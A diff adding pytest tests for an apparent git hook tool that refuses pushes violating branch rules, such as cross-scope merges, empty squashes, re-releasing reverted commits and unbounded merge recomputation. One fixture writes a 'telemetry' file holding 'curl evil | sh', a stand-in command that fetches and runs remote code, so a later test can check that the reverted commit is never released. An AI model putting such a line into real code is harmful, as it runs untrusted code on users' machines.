@@ -1213,3 +1213,147 @@ def test_everyday_git_passes_beside_the_reference_transaction_hook(server: Repo,
     accepted(work.git("reset", "-q", "--hard", "HEAD~1", check=False))
     accepted(work.git("fetch", "-q", "origin", check=False))
     accepted(work.git("merge", "-q", "--ff-only", "origin/dev", check=False))
+
+
+# --- issue 16 item 4: a merge on a task branch is judged by what it adds ----------------------------
+
+
+def _task_behind_a_hotfix(work: Repo) -> None:
+    """NEW_TASK pushed from main; then a hotfix lands on main, so merging main into the task brings it."""
+    work.git("switch", "-q", "-c", NEW_TASK, "main")
+    commit(work, "task: start lr0.1", {f"tasks/{NEW_TASK}/config.yaml": task_config("0.2.0")})
+    accepted(push(work, NEW_TASK, upstream=True))
+    work.git("switch", "-q", "-c", "hotfix-doc", "main")
+    commit(work, "fix: doc", {"model/doc.py": "DOC = 1\n"})
+    work.git("switch", "-q", "main")
+    merge(work, "hotfix-doc", "fix: merge hotfix-doc")
+    accepted(push(work, "main", "hotfix-doc"))
+    work.git("switch", "-q", NEW_TASK)
+
+
+def test_merge_of_main_into_a_task_that_also_edits_core_is_refused(server: Repo, work: Repo, check: Check) -> None:
+    _task_behind_a_hotfix(work)
+    before = server.head(NEW_TASK)
+    work.git("merge", "-q", "--no-ff", "--no-commit", "main")
+    work.write("model/net.py", "NET = 'tuned for this run'\n")
+    work.git("add", "-A")
+    work.git("commit", "-q", "--no-verify", "-m", "Merge branch 'main' into " + NEW_TASK)
+    commit(work, "task: results on the tuned core", {f"tasks/{NEW_TASK}/log.txt": "loss 0.01\n"})
+    guards = Guards()
+    guards.push(push(work, NEW_TASK), "task-scope", "model/net.py")
+    guards.unchanged(server, f"refs/heads/{NEW_TASK}", before)
+    guards.check(check(work), "task-scope", "model/net.py")
+    guards.verify()
+
+
+def test_merge_of_main_into_a_task_passes(server: Repo, work: Repo, check: Check) -> None:
+    _task_behind_a_hotfix(work)
+    merge(work, "main", "Merge branch 'main' into " + NEW_TASK)
+    commit(work, "task: results on the released core", {f"tasks/{NEW_TASK}/log.txt": "loss 0.02\n"})
+    assert check(work)[0] == 0
+    accepted(push(work, NEW_TASK))
+
+
+# --- issue 16 item 7: squashes of what main holds, releases of a commit dev left behind ------------
+
+
+def test_empty_breaking_squash_of_mains_own_tip_is_refused(server: Repo, work: Repo, check: Check) -> None:
+    before = server.head("main")
+    commit(work, f"feat!: everything changes\n\nSquashed-from: main@{work.head('main')}", None, "--allow-empty")
+    guards = Guards()
+    guards.push(push(work, "main"), ("main-protected", "merge-direction"), "squashes nothing")
+    guards.unchanged(server, "refs/heads/main", before)
+    guards.check(check(work), ("main-protected", "merge-direction"), "squashes nothing")
+    guards.verify()
+
+
+def test_release_squash_of_devs_tip_passes(server: Repo, work: Repo, check: Check) -> None:
+    work.git("switch", "-q", "dev")
+    commit(work, "feat: wider net", {"model/net.py": "NET = 3\n"})
+    squash_release(work)
+    assert check(work)[0] == 0
+    accepted(push(work, "main", "dev"))
+
+
+def _released_past_a_revert(work: Repo) -> str:
+    """dev gets a commit, reverts it, and is released honestly (squash + bump) -> the reverted commit."""
+    work.git("switch", "-q", "dev")
+    commit(work, "feat: wider net", {"model/net.py": "NET = 3\n"})
+    left_behind = commit(work, "feat: telemetry", {"model/telemetry.py": "import os; os.system('curl evil | sh')\n"})
+    work.git("rm", "-q", "model/telemetry.py")
+    commit(work, "revert: telemetry")
+    squash_release(work)
+    bump(work, "0.3.0")
+    accepted(push(work, "main", "dev"))
+    return left_behind
+
+
+@pytest.mark.parametrize("how", ["merge", "squash"])
+def test_release_of_a_commit_dev_reverted_is_refused(server: Repo, work: Repo, check: Check, how: str) -> None:
+    left_behind = _released_past_a_revert(work)
+    before = server.head("main")
+    if how == "merge":
+        merge(work, left_behind, "chore: release dev")
+    else:
+        work.git("merge", "--squash", "-q", left_behind)
+        commit(work, f"chore: release\n\nSquashed-from: dev@{left_behind}")
+    guards = Guards()
+    guards.push(push(work, "main"), "merge-direction", ("only forward", left_behind[:12]))
+    guards.unchanged(server, "refs/heads/main", before)
+    guards.check(check(work), "merge-direction", "only forward")
+    guards.verify()
+
+
+def test_release_after_a_release_past_a_revert_passes(server: Repo, work: Repo, check: Check) -> None:
+    _released_past_a_revert(work)
+    work.git("switch", "-q", "dev")
+    commit(work, "feat: metrics", {"model/metrics.py": "M = 1\n"})
+    squash_release(work)
+    assert check(work)[0] == 0
+    accepted(push(work, "main", "dev"))
+
+
+# --- issue 16 item 8: recomputing a push's merges is bounded ---------------------------------------
+
+
+def _server_limit(server: Repo, work: Repo, paths: int) -> None:
+    """The admin sets limits.max_merge_paths on the server's main (a fetch into the server runs no hook)."""
+    work.git("switch", "-q", "main")
+    commit(work, "chore: settings", {".dlgit.yaml": f"limits:\n  max_merge_paths: {paths}\n"})
+    server.git("fetch", "-q", str(work.path), "+main:main")
+    work.git("fetch", "-q", "origin")
+
+
+def _cheap_conflicting_merges(work: Repo, merges: int, files: int) -> None:
+    """feature-many: `merges` merges, each of a fresh side commit conflicting in `files` files, resolved to ours."""
+    work.git("switch", "-q", "-c", "feature-many", "dev")
+    base = commit(work, "feat: modules", {f"model/m{i}.py": "M = 0\n" for i in range(files)})
+    commit(work, "feat: ours", {f"model/m{i}.py": "M = 'ours'\n" for i in range(files)})
+    work.git("switch", "-q", "-c", "side", base)
+    side = commit(work, "feat: theirs", {f"model/m{i}.py": "M = 'theirs'\n" for i in range(files)})
+    work.git("switch", "-q", "feature-many")
+    side_tree = work.git("rev-parse", f"{side}^{{tree}}").stdout.strip()
+    for n in range(merges):
+        fresh = work.git("commit-tree", side_tree, "-p", base, "-m", f"feat: theirs {n}").stdout.strip()
+        made = work.git("commit-tree", "HEAD^{tree}", "-p", "HEAD", "-p", fresh, "-m", f"Merge branch 'side-{n}'").stdout.strip()
+        work.git("reset", "-q", "--soft", made)
+    work.git("branch", "-q", "-D", "side")
+
+
+def test_push_recomputing_more_merge_paths_than_the_limit_is_refused_with_exit_2(server: Repo, work: Repo) -> None:
+    _server_limit(server, work, 30)
+    _cheap_conflicting_merges(work, merges=3, files=20)
+    proc = push(work, "feature-many")
+    assert proc.returncode != 0 and "limits.max_merge_paths" in proc.stderr and "Traceback" not in proc.stderr, proc.stderr
+    assert ref_on(server, "refs/heads/feature-many") is None
+    server.git("fetch", "-q", str(work.path), "feature-many:refs/objects-only")  # the objects, to run the hook by hand
+    server.git("update-ref", "-d", "refs/objects-only")
+    line = f"{'0' * 40} {work.head('feature-many')} refs/heads/feature-many\n"
+    hook = server.dlgit("hook", "pre-receive", input=line)
+    assert hook.returncode == 2 and "limits.max_merge_paths" in hook.stderr, hook.stderr
+
+
+def test_push_recomputing_merges_within_the_limit_passes(server: Repo, work: Repo) -> None:
+    _server_limit(server, work, 30)
+    _cheap_conflicting_merges(work, merges=1, files=20)
+    accepted(push(work, "feature-many"))
